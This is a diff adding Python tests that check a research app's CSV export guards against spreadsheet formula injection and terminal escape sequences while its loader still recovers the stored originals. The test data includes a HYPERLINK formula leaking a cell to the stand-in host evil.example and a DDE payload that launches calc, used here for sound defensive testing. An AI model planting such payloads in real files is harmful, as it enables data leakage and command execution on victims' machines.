@@ -320,3 +320,108 @@ def test_export_streams_in_bounded_memory(app, make_study, tmp_path, monkeypatch
     assert (small_rows, large_rows) == (1000, 4000)
     # Loading every row would take about four times the memory for four times the rows.
     assert large < 1.3 * small, (small, large)
+
+
+# --- Hostile text: no spreadsheet formula, no terminal escape, originals read back ------------
+
+FORMULAS = {
+    "user_agent": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "invalid_reason": "=cmd|' /C calc'!A0",
+    "input": "@SUM(1+1)",
+    "client_id": "=1+1",
+}
+
+
+def hostile_session(app, make_study) -> None:
+    """One link participant whose every free-text field is an attack, answered through the API."""
+    make_study()
+    client = app.test_client()
+    r = join(client, client_id=FORMULAS["client_id"], user_agent=FORMULAS["user_agent"])
+    assert r.status_code == 201, r.json
+    token = r.json["token"]
+    trials = session(client, token)["trials"]
+    hostile = {"valid": False, "invalid_reason": FORMULAS["invalid_reason"]}
+    hostile["input"] = FORMULAS["input"]
+    assert answer(client, token, trials[0]["id"], **hostile).status_code == 200
+    # ESC sequences and other control characters are dropped at input.
+    escape = {"valid": False, "invalid_reason": "\x1b[2J\x1b[31mred\x07", "input": "-\x1b]0;x\x07"}
+    assert answer(client, token, trials[1]["id"], **escape).status_code == 200
+    # The same answer again is still the same answer (cleaned the same way), not a conflict.
+    assert answer(client, token, trials[1]["id"], **escape).status_code == 200
+    other = join(client, client_id="plain-9", user_agent="\x1b[1mMozilla\r\n\t5.0\x9b")
+    assert other.status_code == 201
+    with app.app_context():
+        stored = db.session.scalars(select(Response.invalid_reason).order_by(Response.id)).all()
+        assert stored == [FORMULAS["invalid_reason"], "[2J[31mred"]
+        agents = db.session.scalars(select(Participant.user_agent).order_by(Participant.id)).all()
+        assert agents == [FORMULAS["user_agent"], "[1mMozilla5.0"]
+        # Rows stored before control characters were cleaned at input (or by other tools).
+        db.session.execute(
+            Participant.__table__.update()
+            .where(Participant.platform_pid == "plain-9")
+            .values(user_agent="\tTAB", platform_study_id="'quoted", hit_id="\rCR", state="main")
+        )
+        db.session.commit()
+
+
+def text_cells(rows: list[dict[str, str]], file: str) -> list[str]:
+    columns = [c.name for c in FILES[file][1] if c.type == "text"]
+    return [row[c] for row in rows for c in columns if row[c]]
+
+
+def test_hostile_text_is_neutralised_and_read_back(app, make_study, tmp_path):
+    from analysis.responses import load, read_dictionary, read_table
+
+    hostile_session(app, make_study)
+    out = tmp_path / "export"
+    with app.app_context():
+        write_export(out, include_platform_ids=True)
+        buffer = io.BytesIO()
+        export_zip(buffer, slug="t")
+    archive = zipfile.ZipFile(buffer)
+    for file in CSV_FILES:
+        zipped = list(csv.DictReader(io.StringIO(archive.read(file).decode(), newline="")))
+        for rows in (read(out / file), zipped):
+            for cell in text_cells(rows, file):
+                # What a spreadsheet would run, or a quote that is ours: always behind a `'`.
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (file, cell)
+                assert "\x1b" not in cell and "\x07" not in cell
+    trials = read(out / "trials.csv")
+    participants = {p["participant_id"]: p for p in read(out / "participants.csv")}
+    assert trials[0]["invalid_reason"] == "'" + FORMULAS["invalid_reason"]
+    assert trials[0]["input"] == "'" + FORMULAS["input"]
+    assert trials[1]["input"] == "'-]0;x"
+    first, second = participants["1"], participants["2"]
+    assert first["user_agent"] == "'" + FORMULAS["user_agent"]
+    assert first["platform_pid"] == "'=1+1"
+    assert (second["user_agent"], second["hit_id"]) == ("'\tTAB", "'\rCR")
+    assert second["platform_study_id"] == "''quoted"
+    # Numbers and the dictionary's own text are left alone.
+    assert trials[0]["rt_ms"] == "612.5"
+    assert "written with one `'` in front" in (out / "data_dictionary.md").read_text()
+
+    # `percept human`'s loader gives back exactly what was stored.
+    frame = load(out)
+    assert frame.loc[0, "invalid_reason"] == FORMULAS["invalid_reason"]
+    assert frame.loc[0, "input"] == FORMULAS["input"]
+    assert frame.loc[1, "input"] == "-]0;x"
+    assert set(frame["platform_pid"]) == {"=1+1", "plain-9"}
+    people = read_table(out / "participants.csv", read_dictionary(out)["participants.csv"])
+    assert list(people["user_agent"]) == [FORMULAS["user_agent"], "\tTAB"]
+    assert list(people["platform_study_id"].fillna("")) == ["", "'quoted"]
+    assert list(people["hit_id"].fillna("")) == ["", "\rCR"]
+
+
+def test_an_export_from_before_neutralising_is_read_as_it_is(app, make_study, tmp_path):
+    """Older exports have no `'` guard: a leading `'` there is data and stays."""
+    from analysis.responses import read_dictionary, read_table
+
+    hostile_session(app, make_study)
+    out = tmp_path / "export"
+    with app.app_context():
+        write_export(out, include_platform_ids=True)
+    text = (out / "data_dictionary.md").read_text()
+    note = text[text.index("Text cells are safe") : text.index("## trials.csv")]
+    (out / "data_dictionary.md").write_text(text.replace(note, ""))
+    people = read_table(out / "participants.csv", read_dictionary(out)["participants.csv"])
+    assert people.loc[1, "platform_study_id"] == "''quoted"
